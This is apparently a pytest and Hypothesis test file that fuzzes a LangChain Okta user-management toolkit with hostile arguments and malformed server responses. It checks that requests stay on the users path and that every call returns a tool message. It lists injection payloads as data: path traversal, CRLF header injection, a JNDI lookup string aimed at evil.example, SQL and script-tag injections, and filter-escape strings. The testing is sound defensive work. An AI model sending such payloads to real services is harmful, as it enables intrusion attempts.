"""Hostile arguments and hostile responses: the tools answer with a ToolMessage, never raise.

Every tool gets at least 500 generated argument sets (seeded, so a failure reproduces), sent
through `tool.invoke` with a ToolCall against the in-process sandbox; a few run through respx.
Each call must end in a success or an error ToolMessage, and every request it sent must stay on
`/api/v1/users` with a method that tool is meant to use (never PUT, PATCH or DELETE).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import unquote

import httpx
import pytest
import respx
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from langchain_core.messages import ToolMessage
from langchain_core.tools import BaseTool
from reliability_support import (
    USERS_PATH,
    RecordingTransport,
    SentRequest,
    ainvoke,
    both_ways,
    content_json,
    invoke,
    tools_by_name,
    user_segment,
)

from langchain_okta import OktaClient, OktaSettings, OktaToolkit, RetrySettings
from langchain_okta.approvals import describe_call
from langchain_okta.cursors import bind
from langchain_okta.sandbox import IN_PROCESS_URL, RateLimit, SandboxOrg
from langchain_okta.views import listed_users

EXAMPLES = 500
HYPOTHESIS = settings(
    max_examples=EXAMPLES,
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
# No tool call, retries included, needs more requests than this (create: 4 rounds of POST + GET).
MAX_REQUESTS_PER_CALL = 32
LIST_PARAMETERS = {"q", "search", "filter", "after", "limit"}
STATUSES = (
    "STAGED",
    "PROVISIONED",
    "ACTIVE",
    "RECOVERY",
    "PASSWORD_EXPIRED",
    "LOCKED_OUT",
    "SUSPENDED",
    "DEPROVISIONED",
)
ORG = "https://acme.okta.com"
DATE = "Tue, 01 Jul 2025 12:00:00 GMT"

# -- the adversarial vocabulary ------------------------------------------------------------

PATH_TRICKS = (
    "../groups",
    "..",
    ".",
    "...",
    "./.",
    "%2e%2e",
    ".%2e",
    "%2e%2e%2fgroups",
    "..%2Fgroups",
    "..%252Fgroups",
    "%2F",
    "%2f",
    "a%2Fb",
    "%252F",
    "%25252F",
    "%2525252525252F",
    "%5C",
    "?",
    "00u1?limit=200",
    "#",
    "00u1#roles",
    "\r\n",
    "00u1\r\nX-Injected: 1",
    "\x00",
    "%00",
    "%0d%0a",
    "a/b",
    "a\\b",
    "/api/v1/groups",
    "//evil.example/x",
    "https://evil.example/",
    "@evil.example",
    "me",
    "me/roles",
    "00u1/roles",
    "00u1/lifecycle/deactivate",
    ";",
    "a;b=c",
    "%",
    "%zz",
    " 00u1 ",
    "\t",
    "\u2028",
    "\u202e",
    "\ufeff",
    "ｍｅ",
    "／",
    "．．",
    "\u0085",
)
INJECTIONS = (
    '" or 1 eq 1 or "',
    '") or (status pr',
    "status pr) or (id pr",
    'profile.firstName pr) or (status eq "ACTIVE"',
    "'; DROP TABLE users;--",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    '"}]',
    "\\",
    '\\"',
    '"',
    "(((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((",
    ")))))",
    'profile.login sw ""',
    'status eq "ACTIVE" or status eq "DEPROVISIONED"',
    "not status pr",
    "id ne null",
)
ODDITIES = ("", " ", "é", "Zoë", "日本語", "🙂🙂🙂", "\u200b", "null", "None", "0", "-1", "true")
UNKNOWN_KEYS = (
    "config",
    "callbacks",
    "run_manager",
    "password",
    "credentials",
    "profile",
    "groupIds",
    "department",
    "_links",
    "id",
    "status",
    "activate",
    "method",
    "path",
    "__proto__",
    "user",
)

adversarial = st.sampled_from(PATH_TRICKS + INJECTIONS + ODDITIES)
long_text = st.builds(
    lambda unit, count: unit * count,
    st.sampled_from(("a", "é", "🙂", "%2F", "../", '"', "\\", "x ")),
    st.integers(min_value=40, max_value=12_000),
)
hostile_text = st.one_of(
    adversarial,
    adversarial,
    st.text(max_size=30),
    st.text(st.characters(codec="utf-8"), max_size=300),
    long_text,
    st.builds(lambda a, b: a + b, adversarial, adversarial),
    st.builds(lambda a, b: a + b, st.text(max_size=10), adversarial),
)
wrong_type = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.binary(max_size=20),
    st.lists(st.text(max_size=5), max_size=3),
    st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=3),
)
any_value = st.one_of(hostile_text, hostile_text, wrong_type)


names = st.text(
    st.characters(categories=("L", "M", "Nd", "Zs", "P", "S")), min_size=1, max_size=50
).filter(lambda name: name.strip() != "")
plain_emails = st.builds(
    lambda local, domain: f"{local}@{domain}",
    st.from_regex(r"[a-z][a-z0-9.+']{0,14}", fullmatch=True),
    st.sampled_from(("example.com", "example.org")),
)
hostile_emails = st.one_of(
    st.builds(
        lambda local, domain: f"{local}@{domain}",
        hostile_text,
        st.sampled_from(("example.com", "evil.example", "example.com/../groups", "x", "")),
    ),
    any_value,
)
unknown_fields = st.dictionaries(
    st.one_of(st.sampled_from(UNKNOWN_KEYS), st.text(max_size=8)), any_value, min_size=1
)


def arguments(
    usual: st.SearchStrategy[dict[str, Any]], hostile: dict[str, st.SearchStrategy[Any]]
) -> st.SearchStrategy[dict[str, Any]]:
    """Half usual arguments with at most one field made hostile (these reach the server);
    half every field hostile, some missing, plus unknown fields."""
    one_hostile_field = st.one_of(
        st.just({}),
        st.sampled_from(sorted(hostile)).flatmap(
            lambda name: hostile[name].map(lambda value: {name: value})
        ),
        unknown_fields,
    )
    perturbed = st.builds(lambda base, change: {**base, **change}, usual, one_hostile_field)
    all_hostile = st.builds(
        lambda known, extra: {**extra, **known},
        st.fixed_dictionaries({}, optional=hostile),
        st.one_of(st.just({}), unknown_fields),
    )
    return st.one_of(perturbed, all_hostile)


def list_arguments(known_ids: list[str]) -> st.SearchStrategy[dict[str, Any]]:
    usual = st.fixed_dictionaries(
        {},
        optional={
            "query": st.text(st.characters(codec="utf-8"), max_size=20),
            "search": st.sampled_from((*INJECTIONS, 'profile.department eq "Sales"')),
            "status": st.sampled_from(STATUSES),
            "limit": st.integers(min_value=1, max_value=200),
            # A next_cursor as the tool hands them out, of the unfiltered listing: sent with a
            # query, search or status, it is refused before sending.
            "cursor": st.sampled_from(
                [
                    bind(user_id, query=None, search=None, filter=None, org=IN_PROCESS_URL)
                    for user_id in known_ids
                ]
            ),
        },
    )
    return arguments(
        usual,
        {
            "query": any_value,
            "search": any_value,
            "status": any_value,
            "limit": st.one_of(st.integers(), any_value),
            "cursor": any_value,
        },
    )


def user_ids(known: list[str]) -> st.SearchStrategy[Any]:
    return st.one_of(
        st.builds(lambda good, trick: good + trick, st.sampled_from(known), adversarial),
        st.builds(lambda trick, good: trick + good, adversarial, st.sampled_from(known)),
        any_value,
    )


def get_arguments(known: list[str]) -> st.SearchStrategy[dict[str, Any]]:
    usual = st.fixed_dictionaries(
        {
            "user_id": st.one_of(
                st.sampled_from(known),
                st.builds(lambda good, tail: good + tail, st.sampled_from(known), names),
            )
        }
    )
    return arguments(usual, {"user_id": user_ids(known)})


def create_arguments() -> st.SearchStrategy[dict[str, Any]]:
    usual = st.fixed_dictionaries(
        {"first_name": names, "last_name": names, "email": plain_emails},
        optional={
            "login": plain_emails,
            "mobile_phone": st.from_regex(r"\+?[0-9 ()-]{0,20}", fullmatch=True),
            "activate": st.booleans(),
        },
    )
    return arguments(
        usual,
        {
            "first_name": any_value,
            "last_name": any_value,
            "email": hostile_emails,
            "login": hostile_emails,
            "mobile_phone": any_value,
            "activate": any_value,
        },
    )


def update_arguments(known: list[str]) -> st.SearchStrategy[dict[str, Any]]:
    usual = st.fixed_dictionaries(
        {"user_id": st.sampled_from(known), "first_name": names},
        optional={
            "last_name": names,
            "mobile_phone": st.sampled_from(("", "+1 555 0100", "+44 20 7946 0000")),
        },
    )
    return arguments(
        usual,
        {
            "user_id": user_ids(known),
            "first_name": any_value,
            "last_name": any_value,
            "email": hostile_emails,
            "login": hostile_emails,
            "mobile_phone": any_value,
        },
    )


# -- what each tool may send ---------------------------------------------------------------


def _segment_is_one_safe_segment(sent: SentRequest) -> str:
    segment = user_segment(sent.raw_path)
    assert segment is not None, f"{sent.method} {sent.raw_path} is not /api/v1/users/{{id}}"
    assert segment.strip(". ") != "", f"dot segment sent: {sent.raw_path}"
    # `?` and `#` are legal in logins: percent-encoded they stay inside the segment (a raw
    # one would have cut the path short, which the comparison with the argument catches).
    assert not any(ch in segment for ch in "/\\"), f"path breaker sent: {sent.raw_path}"
    assert all(ord(ch) >= 0x20 and ch != "\x7f" for ch in segment), sent.raw_path
    return segment


def check_list_request(sent: SentRequest, args: dict[str, Any]) -> None:
    assert sent.method == "GET"
    assert sent.raw_path == USERS_PATH
    names = [name for name, _ in sent.query]
    assert set(names) <= LIST_PARAMETERS, f"unexpected parameters {names}"
    assert len(names) == len(set(names)), f"a parameter was sent twice: {names}"


def _as_sent(value: Any) -> str:
    """The user_id as the tool sends it: pydantic decodes bytes and strips whitespace."""
    return (value.decode() if isinstance(value, bytes) else str(value)).strip()


def check_get_request(sent: SentRequest, args: dict[str, Any]) -> None:
    assert sent.method == "GET"
    segment = _segment_is_one_safe_segment(sent)
    assert segment == _as_sent(args["user_id"])
    assert sent.query == ()


def check_create_request(sent: SentRequest, args: dict[str, Any]) -> None:
    assert sent.method in ("POST", "GET")
    if sent.method == "POST":
        assert sent.raw_path == USERS_PATH
        assert sent.query in ((("activate", "true"),), (("activate", "false"),))
    else:
        # The lookup after an unsure create: by the login, as one segment.
        _segment_is_one_safe_segment(sent)


def check_update_request(sent: SentRequest, args: dict[str, Any]) -> None:
    assert sent.method in ("GET", "POST")
    segment = _segment_is_one_safe_segment(sent)
    if sent.method == "GET":
        assert segment == _as_sent(args["user_id"])
    assert sent.query == ()


EXPECTED_KEYS = {
    "okta_list_users": {"columns", "users", "next_cursor"},
    "okta_get_user": {"user"},
    "okta_create_user": {"user"},
    "okta_update_user": {"user", "changed"},
}


@dataclass
class Tally:
    """How the generated calls ended: proof that many reached the server, and many did not."""

    success: int = 0
    error: int = 0
    sent_requests: int = 0

    def check_both_paths_were_exercised(self, min_sent: int = 100) -> None:
        assert self.success >= 25, self
        assert self.error >= 50, self
        assert self.sent_requests >= min_sent, self


def check_call(
    tool: BaseTool,
    recorder: RecordingTransport,
    args: Any,
    check_request: Callable[[SentRequest, dict[str, Any]], None],
    tally: Tally,
    host: str,
) -> ToolMessage:
    recorder.reset()
    message = invoke(tool, args)
    assert message.status in ("success", "error")
    assert isinstance(message.content, str)
    assert message.content
    if message.status == "success":
        tally.success += 1
        assert set(content_json(message)) == EXPECTED_KEYS[tool.name]
    else:
        tally.error += 1
    assert len(recorder.sent) <= MAX_REQUESTS_PER_CALL
    for sent in recorder.sent:
        assert sent.method not in ("PUT", "PATCH", "DELETE")
        assert sent.host == host
        check_request(sent, args)
    tally.sent_requests += len(recorder.sent)
    return message


@dataclass
class InProcess:
    org: SandboxOrg
    recorder: RecordingTransport
    tools: dict[str, BaseTool]
    ids: list[str]
    logins: list[str]


def in_process(users: int = 20) -> InProcess:
    # Hostile input is under test, not rate limits: a thousand examples in one minute must
    # not use up the org's 600-a-minute window (that made these tests depend on speed).
    org = SandboxOrg(users=users, rate_limit=RateLimit(limit=100_000))
    recorder = both_ways(org.transport())
    toolkit = OktaToolkit(
        IN_PROCESS_URL,
        org.token,
        check_admin=False,
        transport=recorder,
        retries=RetrySettings(backoff_base=0, max_wait=0.5),
    )
    snapshot = org.users
    ids = [user["id"] for user in snapshot]
    logins = [user["profile"]["login"] for user in snapshot]
    return InProcess(org, recorder, tools_by_name(toolkit), ids, logins)


HOST = httpx.URL(IN_PROCESS_URL).host


# -- arguments: one test per tool ------------------------------------------------------------


def test_list_users_answers_every_hostile_argument_set_with_a_tool_message() -> None:
    env = in_process()
    tally = Tally()

    @HYPOTHESIS
    @given(args=list_arguments(env.ids))
    def check(args: dict[str, Any]) -> None:
        check_call(
            env.tools["okta_list_users"], env.recorder, args, check_list_request, tally, HOST
        )

    check()
    # Fewer reach the org than for the other tools: a cursor the tool did not hand out for
    # the same query, search and status is refused before sending.
    tally.check_both_paths_were_exercised(min_sent=50)


def test_get_user_answers_every_hostile_argument_set_with_a_tool_message() -> None:
    env = in_process()
    tally = Tally()

    @HYPOTHESIS
    @given(args=get_arguments(env.ids + env.logins + ["me"]))
    def check(args: dict[str, Any]) -> None:
        check_call(env.tools["okta_get_user"], env.recorder, args, check_get_request, tally, HOST)

    check()
    tally.check_both_paths_were_exercised()


def test_create_user_answers_every_hostile_argument_set_with_a_tool_message() -> None:
    env = in_process()
    tally = Tally()

    @HYPOTHESIS
    @given(args=create_arguments())
    def check(args: dict[str, Any]) -> None:
        check_call(
            env.tools["okta_create_user"], env.recorder, args, check_create_request, tally, HOST
        )

    check()
    tally.check_both_paths_were_exercised()


def test_update_user_answers_every_hostile_argument_set_with_a_tool_message() -> None:
    env = in_process()
    tally = Tally()

    @HYPOTHESIS
    @given(args=update_arguments(env.ids + env.logins))
    def check(args: dict[str, Any]) -> None:
        check_call(
            env.tools["okta_update_user"], env.recorder, args, check_update_request, tally, HOST
        )

    check()
    tally.check_both_paths_were_exercised()


def test_async_tools_answer_hostile_arguments_with_a_tool_message() -> None:
    env = in_process()
    tally = Tally()
    checks = {
        "okta_get_user": check_get_request,
        "okta_update_user": check_update_request,
        "okta_create_user": check_create_request,
        "okta_list_users": check_list_request,
    }

    @settings(max_examples=200, derandomize=True, deadline=None, database=None)
    @given(
        name=st.sampled_from(sorted(checks)),
        get=get_arguments(env.ids + env.logins),
        update=update_arguments(env.ids),
        create=create_arguments(),
        listing=list_arguments(env.ids),
    )
    def check(
        name: str,
        get: dict[str, Any],
        update: dict[str, Any],
        create: dict[str, Any],
        listing: dict[str, Any],
    ) -> None:
        args = {
            "okta_get_user": get,
            "okta_update_user": update,
            "okta_create_user": create,
            "okta_list_users": listing,
        }[name]
        env.recorder.reset()
        message = ainvoke(env.tools[name], args)
        assert message.status in ("success", "error")
        if message.status == "success":
            tally.success += 1
            assert set(content_json(message)) == EXPECTED_KEYS[name]
        else:
            tally.error += 1
        for sent in env.recorder.sent:
            assert sent.host == HOST
            checks[name](sent, args)
        tally.sent_requests += len(env.recorder.sent)

    check()
    assert tally.success >= 10, tally
    assert tally.error >= 10, tally
    assert tally.sent_requests >= 50, tally


def test_approval_descriptions_of_hostile_calls_never_raise_and_read_at_most_once() -> None:
    env = in_process()
    client = OktaClient(
        OktaSettings(org_url=IN_PROCESS_URL, api_token=env.org.token), transport=env.recorder
    )
    kinds = {"okta_update_user": 0, "okta_create_user": 0}

    @settings(max_examples=250, derandomize=True, deadline=None, database=None)
    @given(
        name=st.sampled_from(sorted(kinds)),
        update=update_arguments(env.ids + env.logins),
        create=create_arguments(),
    )
    def check(name: str, update: dict[str, Any], create: dict[str, Any]) -> None:
        args = update if name == "okta_update_user" else create
        env.recorder.reset()
        text = describe_call(client, name, args)
        assert isinstance(text, str)
        assert text.startswith(("Update the Okta user", "Create an Okta user"))
        assert len(env.recorder.sent) <= 1
        for sent in env.recorder.sent:
            assert sent.method == "GET"
            assert sent.raw_path == USERS_PATH or sent.raw_path.startswith(USERS_PATH + "/")
        kinds[name] += len(env.recorder.sent)

    check()
    # Not vacuous: hostile calls did reach the read. How many do depends on what Hypothesis
    # draws, which changes with the Python version's Unicode tables even with the same seed
    # (update reads: 30 on 3.11, 23 on 3.13), so the bar sits well under both.
    assert all(reads >= 10 for reads in kinds.values()), kinds


def test_every_generated_request_also_reached_the_sandbox_on_users_paths_only() -> None:
    env = in_process()
    tools = env.tools

    @settings(max_examples=150, derandomize=True, deadline=None, database=None)
    @given(
        get=get_arguments(env.ids + env.logins),
        update=update_arguments(env.ids),
        listing=list_arguments(env.ids),
    )
    def check(get: dict[str, Any], update: dict[str, Any], listing: dict[str, Any]) -> None:
        invoke(tools["okta_get_user"], get)
        invoke(tools["okta_update_user"], update)
        invoke(tools["okta_list_users"], listing)

    check()
    received = env.org.requests
    assert received
    assert {request.method for request in received} <= {"GET", "POST"}
    for request in received:
        assert request.path == USERS_PATH or user_segment(request.path) is not None, request.path


# -- the status filter cannot be escaped -----------------------------------------------------

search_fragments = st.lists(
    st.sampled_from(
        (
            "(",
            ")",
            " or ",
            " and ",
            "status pr",
            'status eq "ACTIVE"',
            "profile.firstName pr",
            'profile.lastName sw "A"',
            "id pr",
            '"',
        )
    ),
    min_size=1,
    max_size=8,
).map("".join)


@settings(max_examples=EXAMPLES, derandomize=True, deadline=None, database=None)
@example(search="profile.firstName pr) or (status pr", query=None)
@given(search=search_fragments, query=st.one_of(st.none(), hostile_text))
def test_status_filter_holds_whatever_the_search_and_query_say(
    search: str, query: str | None
) -> None:
    # A fresh sandbox is cheap enough for 500 examples only once: reuse one per process.
    env = _shared_env()
    args: dict[str, Any] = {"search": search, "status": "STAGED", "limit": 200}
    if query is not None:
        args["query"] = query
    message = invoke(env.tools["okta_list_users"], args)
    assert message.status in ("success", "error")
    if message.status == "success":
        listed = {user["status"] for user in listed_users(str(message.content))}
        assert listed <= {"STAGED"}, f"status=STAGED returned {sorted(listed)} for {args}"
    else:
        assert_refused_search(str(message.content))


@settings(max_examples=EXAMPLES, derandomize=True, deadline=None, database=None)
@given(query=hostile_text, status=st.sampled_from(STATUSES))
def test_a_query_cannot_break_out_of_its_quoted_string(query: str, status: str) -> None:
    env = _shared_env()
    message = invoke(env.tools["okta_list_users"], {"query": query, "status": status})
    if message.status == "success":
        listed = {user["status"] for user in listed_users(str(message.content))}
        assert listed <= {status}
    else:
        assert_refused_search(str(message.content))


def assert_refused_search(content: str) -> None:
    """A listing that did not run says why: our argument check, Okta's search error, or the
    rate limit that hundreds of examples against one sandbox use up."""
    reasons = ("Invalid arguments:", "E0000031", "Okta's rate limit is exhausted")
    assert any(reason in content for reason in reasons), content


_ENV: list[InProcess] = []


def _shared_env() -> InProcess:
    if not _ENV:
        _ENV.append(in_process(users=40))
    return _ENV[0]


# -- through respx: the URLs the client builds -----------------------------------------------


def raw_user(user_id: str = "00u1", **profile: Any) -> dict[str, Any]:
    return {
        "id": user_id,
        "status": "ACTIVE",
        "created": "2024-01-02T03:04:05.000Z",
        "lastUpdated": "2024-06-01T00:00:00.000Z",
        "profile": {
            "firstName": "Jane",
            "lastName": "Doe",
            "email": "jane@example.com",
            "login": "jane@example.com",
            **profile,
        },
        "_links": {"self": {"href": f"{ORG}/api/v1/users/{user_id}"}},
    }


def respx_tools(router: respx.MockRouter) -> dict[str, BaseTool]:
    toolkit = OktaToolkit(
        ORG,
        "respx-token",
        check_admin=False,
        retries=RetrySettings(backoff_base=0, max_wait=0.2),
        transport=httpx.MockTransport(router.handler),
    )
    return tools_by_name(toolkit)


def test_get_and_update_build_only_users_urls_on_the_org_host_through_respx() -> None:
    with respx.mock(base_url=ORG, assert_all_called=False) as router:
        route = router.route(host="acme.okta.com").respond(200, json=raw_user())
        tools = respx_tools(router)

        @settings(max_examples=300, derandomize=True, deadline=None, database=None)
        @given(get=get_arguments(["00u1", "jane@example.com"]), update=update_arguments(["00u1"]))
        def check(get: dict[str, Any], update: dict[str, Any]) -> None:
            route.calls.reset()
            get_message = invoke(tools["okta_get_user"], get)
            update_message = invoke(tools["okta_update_user"], update)
            assert get_message.status in ("success", "error")
            assert update_message.status in ("success", "error")
            for call in route.calls:
                request = call.request
                assert request.url.host == "acme.okta.com"
                assert request.method in ("GET", "POST")
                path = request.url.raw_path.decode("ascii").partition("?")[0]
                segment = user_segment(path)
                assert segment is not None, path
                assert unquote(segment).strip(". ") != ""

        check()
        assert route.call_count > 0


# -- hostile values coming back ----------------------------------------------------------------

HOSTILE_NAMES = (
    '"}]',
    '"}],"next_cursor":"00uEVIL',
    "a\u2028b",
    "a\u2029b",
    "</script><script>alert(1)</script>",
    "<!--",
    "\\",
    '\\"',
    "\x00\x01\x1f",
    "a\r\nb",
    "Zoë 🙂 日本",
    "\ufeff",
    "'; DROP TABLE users;--",
)


def _post_raw_user(org: SandboxOrg, first_name: str, index: int) -> None:
    """Create a user straight on the sandbox, bypassing the tools' argument checks."""
    with httpx.Client(transport=org.transport(), base_url=IN_PROCESS_URL) as http:
        login = f"hostile{index}@example.com"
        response = http.post(
            "/api/v1/users",
            params={"activate": "false"},
            json={
                "profile": {
                    "firstName": first_name,
                    "lastName": first_name,
                    "email": login,
                    "login": login,
                }
            },
            headers={"Authorization": f"SSWS {org.token}"},
        )
        assert response.status_code == 200, response.text


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_profile_values_come_back_json_escaped_from_get_and_list(name: str) -> None:
    org = SandboxOrg(users=3)
    _post_raw_user(org, name, 0)
    tools = tools_by_name(OktaToolkit(IN_PROCESS_URL, org.token, transport=org.transport()))

    got = invoke(tools["okta_get_user"], {"user_id": "hostile0@example.com"})
    listed = invoke(tools["okta_list_users"], {"search": 'profile.login eq "hostile0@example.com"'})

    assert got.status == "success"
    assert listed.status == "success"
    assert content_json(got)["user"]["firstName"] == name
    assert content_json(got)["user"]["lastName"] == name
    page = content_json(listed)
    assert set(page) == {"columns", "users", "next_cursor"}
    assert [user["firstName"] for user in listed_users(str(listed.content))] == [name]
    assert page["next_cursor"] is None
    assert got.artifact["profile"]["firstName"] == name


def test_a_ten_kilobyte_name_comes_back_whole_and_parses() -> None:
    name = "Ω" * 10_240
    with respx.mock(base_url=ORG, assert_all_called=False) as router:
        router.get("/api/v1/users/00u1").respond(200, json=raw_user(firstName=name))
        message = invoke(respx_tools(router)["okta_get_user"], {"user_id": "00u1"})

    assert message.status == "success"
    assert content_json(message)["user"]["firstName"] == name


@settings(max_examples=EXAMPLES, derandomize=True, deadline=None, database=None)
@given(
    values=st.fixed_dictionaries(
        {
            name: st.one_of(st.sampled_from(HOSTILE_NAMES), st.text(st.characters(codec="utf-8")))
            for name in ("firstName", "lastName", "email", "login", "mobilePhone")
        }
    ),
    user_id=st.text(st.characters(codec="utf-8"), min_size=1, max_size=40),
)
def test_any_profile_values_returned_parse_back_exactly_from_the_content(
    values: dict[str, str], user_id: str
) -> None:
    user = raw_user(user_id, **values)
    with respx.mock(base_url=ORG, assert_all_called=False) as router:
        router.get("/api/v1/users").respond(200, json=[user, user])
        router.get(path__regex=r"^/api/v1/users/[^/]+$").respond(200, json=user)
        tools = respx_tools(router)
        got = invoke(tools["okta_get_user"], {"user_id": "00u1"})
        listed = invoke(tools["okta_list_users"], {})

    assert got.status == "success"
    assert listed.status == "success"
    view = content_json(got)["user"]
    assert view["id"] == user_id
    assert {name: view[name] for name in values} == values
    assert [entry["id"] for entry in listed_users(str(listed.content))] == [user_id, user_id]


def test_a_lone_surrogate_in_a_profile_still_gives_utf8_encodable_content() -> None:
    # Okta's JSON may carry "\ud800" (a Java string with half a surrogate pair). The content is
    # sent on to a model provider as UTF-8; json.dumps(ensure_ascii=False) lets it through raw.
    body = json.dumps(raw_user(firstName="Ann\ud800")).encode()
    with respx.mock(base_url=ORG, assert_all_called=False) as router:
        router.get("/api/v1/users/00u1").respond(
            200, content=body, headers={"content-type": "application/json"}
        )
        message = invoke(respx_tools(router)["okta_get_user"], {"user_id": "00u1"})

    assert isinstance(message.content, str)
    message.content.encode("utf-8")


# -- hostile responses: whatever Okta (or a proxy) answers, the tool answers ------------------

json_values = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=False),
        st.text(max_size=20),
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)
error_bodies = st.fixed_dictionaries(
    {},
    optional={
        "errorCode": json_values,
        "errorSummary": json_values,
        "errorId": json_values,
        "errorCauses": json_values,
    },
)
user_bodies = st.builds(
    lambda user_id, profile, extra: {**extra, "id": user_id, "profile": profile},
    st.one_of(st.text(max_size=10), json_values),
    st.one_of(
        st.dictionaries(st.sampled_from(("firstName", "login", "x")), json_values), json_values
    ),
    st.dictionaries(st.sampled_from(("status", "created", "_links", "type")), json_values),
)
RATE_HEADER_VALUES = ("0", "1", "-1", "nan", "NaN", "inf", "-inf", "1e308", "abc", "", "9" * 40)
bodies = st.one_of(
    error_bodies.map(lambda value: json.dumps(value).encode()),
    user_bodies.map(lambda value: json.dumps(value).encode()),
    st.lists(user_bodies, max_size=3).map(lambda value: json.dumps(value).encode()),
    json_values.map(lambda value: json.dumps(value).encode()),
    st.binary(max_size=60),
    st.sampled_from((b"", b"<html>502</html>", b'{"id":"00u', b"[" * 50_000 + b"]" * 50_000)),
)


class Canned:
    """One generated response; its repr stays short, so a falsifying example is readable."""

    def __init__(self, status: int, headers: tuple[tuple[str, str], ...], body: bytes) -> None:
        self.status = status
        self.headers = headers
        self.body = body

    def __repr__(self) -> str:
        body = self.body if len(self.body) <= 80 else self.body[:80] + b"..."
        return f"Canned({self.status}, headers={list(self.headers)!r}, body={body!r})"

    def response(self) -> httpx.Response:
        return httpx.Response(self.status, headers=list(self.headers), content=self.body)


@st.composite
def responses(draw: st.DrawFn) -> Canned:
    headers: list[tuple[str, str]] = []
    content_type = draw(
        st.sampled_from(("application/json", "application/json; charset=utf-8", "text/html", ""))
    )
    if content_type:
        headers.append(("content-type", content_type))
    if draw(st.booleans()):
        for name in ("X-Rate-Limit-Limit", "X-Rate-Limit-Remaining", "X-Rate-Limit-Reset"):
            headers.append((name, draw(st.sampled_from(RATE_HEADER_VALUES))))
        if draw(st.booleans()):
            headers.append(("Date", draw(st.sampled_from((DATE, "yesterday", "")))))
    for link in draw(
        st.lists(
            st.sampled_from(
                (
                    '<https://evil.example/api/v1/users?after=x>; rel="next"',
                    "<>; rel=next",
                    '<https://acme.okta.com/api/v1/users?after=%FF>; rel="next"',
                    "garbage",
                    '<?after=a&after=b>; rel="next self"',
                )
            ),
            max_size=2,
        )
    ):
        headers.append(("link", link))
    status = draw(
        st.sampled_from((200, 201, 204, 301, 302, 400, 401, 403, 404, 405, 412, 418, 429, 500, 503))
    )
    return Canned(status, tuple(headers), draw(bodies))


@settings(max_examples=EXAMPLES, derandomize=True, deadline=None, database=None)
@given(response=responses(), tool_name=st.sampled_from(("okta_get_user", "okta_list_users")))
def test_any_response_okta_or_a_proxy_sends_becomes_a_tool_message(
    response: Canned, tool_name: str
) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        return response.response()

    toolkit = OktaToolkit(
        ORG,
        "respx-token",
        check_admin=False,
        retries=RetrySettings(backoff_base=0, max_wait=0.05),
        transport=httpx.MockTransport(answer),
    )
    tool = tools_by_name(toolkit)[tool_name]
    args = {"user_id": "00u1"} if tool_name == "okta_get_user" else {}

    message = invoke(tool, args)

    assert message.status in ("success", "error")
    if message.status == "success":
        assert set(content_json(message)) == EXPECTED_KEYS[tool_name]
    else:
        assert str(message.content).startswith("Okta error:"), message.content


def _answering(status: int, body: bytes, **headers: str) -> dict[str, BaseTool]:
    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(
            status, headers={"content-type": "application/json", **headers}, content=body
        )

    toolkit = OktaToolkit(
        ORG,
        "respx-token",
        check_admin=False,
        retries=RetrySettings(backoff_base=0, max_wait=0.05),
        transport=httpx.MockTransport(answer),
    )
    return tools_by_name(toolkit)


def test_a_429_whose_reset_header_is_nan_becomes_an_error_message() -> None:
    tools = _answering(
        429,
        b'{"errorCode":"E0000047","errorSummary":"API call exceeded rate limit"}',
        **{
            "X-Rate-Limit-Limit": "600",
            "X-Rate-Limit-Remaining": "0",
            "X-Rate-Limit-Reset": "nan",
            "Date": DATE,
        },
    )

    message = invoke(tools["okta_get_user"], {"user_id": "00u1"})

    assert message.status == "error"


def test_an_error_body_whose_error_causes_is_not_a_list_becomes_an_error_message() -> None:
    tools = _answering(404, b'{"errorCode":"E0000007","errorSummary":"Not found","errorCauses":1}')

    message = invoke(tools["okta_get_user"], {"user_id": "00u1"})

    assert message.status == "error"


def test_a_deeply_nested_json_body_becomes_an_error_message() -> None:
    tools = _answering(200, b"[" * 100_000 + b"]" * 100_000)

    message = invoke(tools["okta_get_user"], {"user_id": "00u1"})

    assert message.status == "error"
